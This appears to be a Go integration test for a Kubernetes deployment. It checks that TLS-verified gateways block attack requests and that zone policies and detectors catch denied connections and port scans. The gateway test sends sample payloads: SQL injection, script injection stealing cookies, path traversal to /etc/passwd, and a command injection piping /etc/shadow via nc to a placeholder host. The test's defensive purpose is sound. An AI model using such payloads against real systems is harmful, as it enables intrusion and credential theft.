package deploy

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"ephemos.dev/deploy/components/zones"
	"ephemos.dev/deploy/test/connectivity"
	"github.com/gruntwork-io/terratest/modules/k8s"
	"github.com/spiffe/go-spiffe/v2/bundle/spiffebundle"
	"github.com/spiffe/go-spiffe/v2/spiffeid"
	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

// testGateways calls through both gateways as clients do: their names verified with the trust bundle, good requests answered by the
// services behind them, attacks refused before they get there.
func testGateways(t *testing.T) {
	topology := discover(t, deployedModel(t))
	for _, gateway := range []struct{ role, host string }{
		{zones.WebGateway, "www." + trustDomain}, {zones.APIGateway, "api." + trustDomain},
	} {
		t.Run(gateway.role, func(t *testing.T) {
			role, _ := deployedModel(t).Role(gateway.role)
			for _, pod := range topology.Playing(role) {
				client := outsider(t, topology, netip.AddrPortFrom(pod.Address, 8443), gateway.host)
				before := gatewayStats(t, pod.Name)

				response, err := client.Get("https://" + gateway.host + "/chain")
				require.NoError(t, err, pod.Name)
				body, err := io.ReadAll(response.Body)
				require.NoError(t, errors.Join(err, response.Body.Close()))
				require.Equal(t, http.StatusOK, response.StatusCode, "%s: %s", pod.Name, body)
				require.True(t, json.Valid(body), "%s: %s", pod.Name, body)

				attacks := []string{
					"/chain?id=" + url.QueryEscape("1' UNION SELECT password FROM users--"),
					"/chain?q=" + url.QueryEscape("<script>alert(document.cookie)</script>"),
					"/chain?file=" + url.QueryEscape("../../../../etc/passwd"),
					"/chain?cmd=" + url.QueryEscape("; cat /etc/shadow | nc 192.0.2.1 9"),
				}
				for _, path := range attacks {
					response, err := client.Get("https://" + gateway.host + path)
					require.NoError(t, err)
					_ = response.Body.Close()
					require.Equal(t, http.StatusForbidden, response.StatusCode, "%s: %s", pod.Name, path)
				}
				after := gatewayStats(t, pod.Name)
				require.Equal(t, before.Requests.Blocked+uint64(len(attacks)), after.Requests.Blocked, pod.Name)
				require.Greater(t, after.Requests.Allowed, before.Requests.Allowed, pod.Name)
				t.Logf("%s: /chain answered %s; %d attacks refused", pod.Name, bytes.TrimSpace(body), len(attacks))
			}
		})
	}
}

// gatewayFigures are what a gateway says of its requests.
type gatewayFigures struct {
	Requests struct {
		Allowed uint64 `json:"allowed"`
		Blocked uint64 `json:"blocked"`
	} `json:"requests"`
}

// gatewayStats reads the figures of the pod, given as namespace/name.
func gatewayStats(t *testing.T, pod string) gatewayFigures {
	t.Helper()
	namespace, name, _ := strings.Cut(pod, "/")
	text, err := get(t.Context(), namespace, name, "8080", "stats")
	require.NoError(t, err)
	return decode[gatewayFigures](t, text)
}

// outsider is a client outside of the cluster's pods that trusts the trust domain's bundle and connects to one gateway pod.
func outsider(t *testing.T, topology connectivity.Topology, to netip.AddrPort, host string) *http.Client {
	t.Helper()
	role, _ := deployedModel(t).Role(zones.KubeAPIServer)
	from := topology.Playing(role)
	require.NotEmpty(t, from)
	transport := &http.Transport{
		DialContext:     func(ctx context.Context, _, _ string) (net.Conn, error) { return from[0].Dial(ctx, to) },
		TLSClientConfig: &tls.Config{RootCAs: trustBundle(t), ServerName: host, MinVersion: tls.VersionTLS12},
	}
	t.Cleanup(transport.CloseIdleConnections)
	return &http.Client{Transport: transport, Timeout: 10 * time.Second}
}

// trustBundle are the authorities that the SPIRE servers publish.
func trustBundle(t *testing.T) *x509.CertPool {
	t.Helper()
	published := k8s.GetConfigMapContext(t, t.Context(), in("spire-agent"), "spire-bundle")
	bundle, err := spiffebundle.Parse(spiffeid.RequireTrustDomainFromString(trustDomain), []byte(published.Data["bundle.spiffe"]))
	require.NoError(t, err)
	pool := x509.NewCertPool()
	for _, authority := range bundle.X509Authorities() {
		pool.AddCert(authority)
	}
	return pool
}

// testIntrusions makes connections that the zones deny, from real pods' networks, and waits for the events.
func testIntrusions(t *testing.T) {
	model := deployedModel(t)
	topology := discover(t, model)
	one := func(name string) connectivity.Endpoint {
		role, _ := model.Role(name)
		pods := topology.Playing(role)
		require.NotEmpty(t, pods, name)
		return pods[0]
	}
	start := time.Now()
	web, payment, cache := one(zones.WebGateway), one(zones.Payment), one(zones.Cache)
	knock := func(ctx context.Context, from connectivity.Endpoint, to netip.Addr, port uint16) {
		ctx, cancel := context.WithTimeout(ctx, time.Second)
		defer cancel()
		connection, err := from.Dial(ctx, netip.AddrPortFrom(to, port))
		if err == nil {
			_ = connection.Close()
			t.Errorf("%s reaches %s:%d", from.Name, to, port)
		}
	}
	// The enforcing layer shows ten packets of a policy at once and ten a minute from then on, and tests before this one may have
	// used them up: the attempts go on until they are seen.
	intrude := func(ctx context.Context) {
		var attempts sync.WaitGroup
		attempts.Go(func() { knock(ctx, web, cache.Address, 6379) })
		for port := range uint16(12) {
			attempts.Go(func() { knock(ctx, payment, cache.Address, 20000+port) })
		}
		attempts.Wait()
	}
	for what, want := range map[string]func(event map[string]any) bool{
		"the connection of payment to cache": func(e map[string]any) bool {
			return e["event_type"] == "connection_denied" && role(e, "from") == zones.Payment && role(e, "to") == zones.Cache
		},
		"the gateway's attempt to skip a tier": func(e map[string]any) bool {
			return e["event_type"] == "zone_violation" && role(e, "from") == zones.WebGateway && role(e, "to") == zones.Cache
		},
		"payment's scan of ports": func(e map[string]any) bool {
			return e["event_type"] == "port_scan" && role(e, "from") == zones.Payment
		},
	} {
		eventually(t, 2*time.Minute, "an event of "+what, func(ctx context.Context) error {
			intrude(ctx)
			events, err := detected(ctx, t, start)
			if err != nil {
				return err
			}
			for _, e := range events {
				if want(e) {
					t.Logf("%s: %v, severity %v", what, e["event_type"], e["severity"])
					return nil
				}
			}
			return fmt.Errorf("none among %d events", len(events))
		})
	}
}

// role is the role at one end of an event's connection.
func role(event map[string]any, end string) string {
	details, _ := event["details"].(map[string]any)
	side, _ := details[end].(map[string]any)
	name, _ := side["role"].(string)
	return name
}

// detected are the events that the detectors of all nodes have written since.
func detected(ctx context.Context, t *testing.T, since time.Time) ([]map[string]any, error) {
	pods, err := clientset(t).CoreV1().Pods(zones.NamespaceDetection).List(ctx, metav1.ListOptions{})
	if err != nil {
		return nil, err
	}
	var events []map[string]any
	for _, pod := range pods.Items {
		at := metav1.NewTime(since)
		text, err := clientset(t).CoreV1().Pods(pod.Namespace).GetLogs(pod.Name, &corev1.PodLogOptions{SinceTime: &at}).DoRaw(ctx)
		if err != nil {
			return nil, err
		}
		lines := bufio.NewScanner(bytes.NewReader(text))
		lines.Buffer(nil, 1<<20)
		for lines.Scan() {
			event := map[string]any{}
			if err := json.Unmarshal(lines.Bytes(), &event); err != nil {
				return nil, fmt.Errorf("%s: %w: %s", pod.Name, err, lines.Bytes())
			}
			if event["event_type"] != nil {
				events = append(events, event)
			}
		}
	}
	return events, nil
}
